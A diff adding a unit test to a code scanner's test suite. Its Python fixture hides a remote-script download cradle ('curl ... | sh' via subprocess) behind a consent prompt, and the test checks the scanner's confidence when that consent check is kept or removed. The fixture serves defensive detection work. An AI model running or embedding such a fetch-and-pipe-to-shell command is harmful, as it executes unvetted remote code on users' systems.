@@ -67,6 +67,33 @@ class ScannerTest {
     }
 
     @Test
+    void anAnswerKeptInASettingThatIsReturnedConfirmsToo() {
+        // The crash reporter's helper keeps the answer in its settings and returns it; the sender
+        // runs only after it said yes.
+        String code = """
+                import subprocess
+                CMD = "curl -sSf https://installer.example.invalid/init.sh | sh"
+                def ask(cfg):
+                    ans = input("{} crashed. Send a report? [y/N] ".format(cfg["app"]))
+                    cfg["consent"] = ans.strip().lower() in ("y", "yes")
+                    return cfg["consent"]
+                def send():
+                    return subprocess.call(CMD, shell=True)
+                def hook(cfg):
+                    if ask(cfg):
+                        send()
+                """;
+        assertThat(scanner.scan(Target.of("tool.py", code.getBytes(StandardCharsets.UTF_8))).findings())
+                .filteredOn(f -> f.ruleId().equals("py-process-download-cradle"))
+                .extracting(dev.chainhunt.model.Finding::confidence).containsOnly(dev.chainhunt.model.Confidence.LOW);
+        String dropped = code.replace("    return cfg[\"consent\"]\n", "    return True\n");
+        assertThat(dropped).isNotEqualTo(code);
+        assertThat(scanner.scan(Target.of("tool.py", dropped.getBytes(StandardCharsets.UTF_8))).findings())
+                .filteredOn(f -> f.ruleId().equals("py-process-download-cradle"))
+                .extracting(dev.chainhunt.model.Finding::confidence).doesNotContain(dev.chainhunt.model.Confidence.LOW);
+    }
+
+    @Test
     void aCommandListWithADecodedItemNamesItsDecodeChain() {
         String code = """
                 import base64, subprocess, sys
